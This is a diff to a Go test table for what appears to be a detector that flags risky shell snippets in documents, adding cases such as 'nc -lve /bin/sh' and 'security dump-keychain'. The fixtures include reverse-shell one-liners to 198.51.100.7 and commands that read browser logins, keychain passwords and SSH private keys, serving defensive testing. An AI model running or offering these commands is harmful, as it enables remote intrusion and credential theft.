@@ -96,6 +96,7 @@ func TestRules(t *testing.T) {
 		{"dev tcp", tree("```\nbash -i >& /dev/tcp/198.51.100.7/443 0>&1\n```\n"), "reverse-shell", ""},
 		{"nc -e", tree("```\nnc -e /bin/sh 198.51.100.7 443\n```\n"), "reverse-shell", ""},
 		{"nc port check", tree("```\nnc -zv db.internal 5432\n```\n"), "", "reverse-shell"},
+		{"nc -e among other flags", tree("```\nnc -lve /bin/sh 198.51.100.7 4444\n```\n"), "reverse-shell", ""},
 		// 9
 		{"aws credentials", tree("Keys go in ~/.aws/credentials.\n"), "credential-read", ""},
 		{".env file", tree("Put the key in `.env`.\n"), "credential-read", ""},
@@ -103,6 +104,7 @@ func TestRules(t *testing.T) {
 		// 10
 		{"chrome login data", tree("```\ncp ~/.config/google-chrome/Default/Login Data /tmp\n```\n"), "secret-store-read", ""},
 		{"keychain password", tree("```\nsecurity find-generic-password -s svc -w\n```\n"), "secret-store-read", ""},
+		{"keychain dump after a tab", tree("```\nsecurity\tdump-keychain -d\n```\n"), "secret-store-read", ""},
 		{"private key read", tree("```\ncat ~/.ssh/id_ed25519\n```\n"), "secret-store-read", ""},
 		{"public key read", tree("```\ncat ~/.ssh/id_ed25519.pub\n```\n"), "", "secret-store-read"},
 		{"env search", tree("```\nfind ~ -name .env\n```\n"), "secret-store-read", ""},
